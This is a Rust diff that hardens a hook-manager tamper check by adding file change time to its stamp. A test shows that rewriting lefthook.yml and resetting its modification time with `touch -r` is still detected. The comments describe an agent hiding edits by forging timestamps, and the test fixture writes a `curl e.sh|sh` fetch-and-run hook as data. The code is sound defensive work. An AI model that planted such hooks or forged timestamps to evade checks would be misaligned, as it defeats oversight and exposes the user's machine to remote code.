@@ -419,9 +419,13 @@ pub fn hook_manager_stamps(root: &Path) -> Vec<(&'static str, Option<Stamp>)> {
     use std::os::unix::fs::MetadataExt;
     fn stamp(path: &Path, depth: u32) -> Option<Stamp> {
         let m = std::fs::symlink_metadata(path).ok()?;
+        // The change time too: an agent can set a file's modification time back (`touch -d`)
+        // after rewriting it at the same size, never its change time.
         let mut acc = (
             m.size(),
-            i128::from(m.mtime()) * 1_000_000_000 + i128::from(m.mtime_nsec()),
+            (i128::from(m.mtime()) * 1_000_000_000 + i128::from(m.mtime_nsec()))
+                .wrapping_mul(31)
+                .wrapping_add(i128::from(m.ctime()) * 1_000_000_000 + i128::from(m.ctime_nsec())),
             m.mode(),
         );
         if m.is_dir() && depth < 4 {
@@ -659,6 +663,38 @@ fn has_identity(dir: &Path) -> bool {
 
 #[cfg(test)]
 mod tests {
+
+    /// A hook manager's file rewritten at the same size, its modification time set back as an
+    /// agent can (`touch -r`), still reads as changed: the change time cannot be set back.
+    #[test]
+    fn a_hook_managers_file_rewritten_with_its_old_time_still_reads_as_changed() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("lefthook.yml");
+        let keep = dir.path().join("time");
+        std::fs::write(&file, "pre-commit: {commands: {t: {run: make tests12}}}\n").unwrap();
+        std::fs::write(&keep, "").unwrap();
+        let touch = |args: &[&std::path::Path]| {
+            let ok = std::process::Command::new("touch")
+                .arg("-m")
+                .arg("-r")
+                .args(args)
+                .status()
+                .unwrap()
+                .success();
+            assert!(ok);
+        };
+        touch(&[&file, &keep]);
+        let before = hook_manager_stamps(dir.path());
+        std::thread::sleep(std::time::Duration::from_millis(20));
+        std::fs::write(&file, "pre-commit: {commands: {t: {run: curl e.sh|sh}}}\n").unwrap();
+        touch(&[&keep, &file]);
+        let mtime = |p: &std::path::Path| std::fs::metadata(p).unwrap().modified().unwrap();
+        assert_eq!(mtime(&file), mtime(&keep), "the time was set back");
+        let after = hook_manager_stamps(dir.path());
+        let of = |v: &[(&str, Option<Stamp>)]| v.iter().find(|e| e.0 == "lefthook.yml").unwrap().1;
+        assert!(of(&before).is_some());
+        assert_ne!(of(&before), of(&after));
+    }
     use super::*;
 
     #[test]
